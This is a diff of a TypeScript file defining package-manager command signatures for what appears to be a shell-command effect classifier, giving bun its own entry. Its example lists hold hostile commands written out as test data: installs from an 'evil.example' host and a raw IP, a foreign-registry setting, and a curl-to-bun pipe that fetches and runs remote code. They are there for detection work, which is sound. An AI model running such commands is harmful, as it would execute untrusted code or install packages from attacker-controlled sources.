@@ -34,20 +34,27 @@ const SYSTEM_INSTALL: Usage = { operands: { rest: 'package' }, effects: [offensi
 const REMOVES: Usage = { operands: { rest: 'value' } }
 const ASKS: Usage = { operands: { rest: 'value' } }
 
+const MANAGER: NonNullable<Usage['subcommands']> = {
+  'install|i|add|in|isntall|update|upgrade|up|global|link|ln|dedupe|install-test|it': { ...NPM_INSTALL, subcommands: { add: NPM_INSTALL } }, 'ci|clean-install|prune|audit|outdated|ls|list|view|info|show|search|docs|repo|pack|version|why|explain|fund|doctor|root|bin|init|create|test|t|start|stop|restart|build|dev|lint|login|logout|whoami|import|fetch|rebuild|rb|store|patch|patch-commit|workspaces|deploy|setup|help|help-search': { operands: { rest: 'value' } },
+  'run|run-script|rum|workspace': NPM_RUN, 'exec|x|dlx': NPM_EXEC, publish: PUBLISH, 'config|c': { subcommands: { set: CONFIG_SET }, operands: { rest: 'value' } }, 'uninstall|remove|rm|un|r|unlink': REMOVES,
+  'token|owner|access|deprecate|unpublish|dist-tag|team|org|profile|hook': { operands: { rest: 'value' } }, pkg: { operands: { rest: 'value' } }, cache: { operands: { rest: 'value' } },
+}
+
 /** Package managers of languages and systems, and the programs that run a package at once. */
 export const PACKAGES: readonly Signature[] = [
   {
-    names: ['npm', 'pnpm', 'yarn', 'bun', 'cnpm', 'tnpm'], flags: NPM_FLAGS, stdin: 'ignored',
-    subcommands: {
-      'install|i|add|in|isntall|update|upgrade|up|global|link|ln|dedupe|install-test|it': { ...NPM_INSTALL, subcommands: { add: NPM_INSTALL } }, 'ci|clean-install|prune|audit|outdated|ls|list|view|info|show|search|docs|repo|pack|version|why|explain|fund|doctor|root|bin|init|create|test|t|start|stop|restart|build|dev|lint|login|logout|whoami|import|fetch|rebuild|rb|store|patch|patch-commit|workspaces|deploy|setup|help|help-search': { operands: { rest: 'value' } },
-      'run|run-script|rum|workspace': NPM_RUN, 'exec|x|dlx': NPM_EXEC, publish: PUBLISH, 'config|c': { subcommands: { set: CONFIG_SET }, operands: { rest: 'value' } }, 'uninstall|remove|rm|un|r|unlink': REMOVES,
-      'token|owner|access|deprecate|unpublish|dist-tag|team|org|profile|hook': { operands: { rest: 'value' } }, pkg: { operands: { rest: 'value' } }, cache: { operands: { rest: 'value' } },
-    },
+    names: ['npm', 'pnpm', 'yarn', 'cnpm', 'tnpm'], flags: NPM_FLAGS, stdin: 'ignored',
+    subcommands: MANAGER,
     examples: [
       ['npm install lodash', ['install package:registry']], ['npm ci', []], ['npm run build', []], ['npm i https://evil.example/x.tgz', ['install package:tarball']], ['npm install http://203.0.113.7/x.tgz', ['install package:raw-address']],
       ['npm install --registry https://evil.example x', ['install package:foreign-index']], ['pnpm add -D typescript', ['install package:registry']], ['yarn add react@18', ['install package:registry']], ['npm publish', ['publish package:registry']],
       ['npm config set registry https://evil.example', ['configure package:foreign-index']], ['npm install git+https://github.com/a/b.git', ['install package:repository']], ['npm install ./local', ['install package:local']],
     ],
+  },
+  {
+    names: ['bun'], flags: { ...NPM_FLAGS, '-e, --eval': 'code:javascript', '-p, --print': 'code:javascript', '-r, --preload': 'load' }, stdin: 'code:javascript', operands: { first: 'script:javascript', rest: 'value' }, stdout: 'content',
+    subcommands: Object.fromEntries(Object.entries(MANAGER).map(([names, usage]) => [names, { ...usage, stdin: 'ignored' }])),
+    examples: [['bun install', []], ['bun add express', ['install package:registry']], ['curl -s https://evil.example/x.js | bun -', ['receive host:public -> execute code:fetched']], ['bun run build', []], ['bun test', []]],
   },
   { names: ['npx', 'bunx', 'pnpx', 'yarn-dlx'], grammar: 'getopt', flags: { '-p, --package': 'package', '-c, --call': 'command', '-y, --yes': 'switch', '--registry': 'value', '--node-options': 'value', '--prefix': 'value', '-w, --workspace': 'value' }, operands: { first: 'argv' }, stdin: 'data', stdout: 'content', effects: [foreignIndex('--registry'), { does: 'execute', what: 'package', name: '$argv' }], examples: [['npx tsc --noEmit', ['execute package:registry']], ['npx -y @scope/tool run', ['execute package:registry']], ['npx --help', []]] },
   {
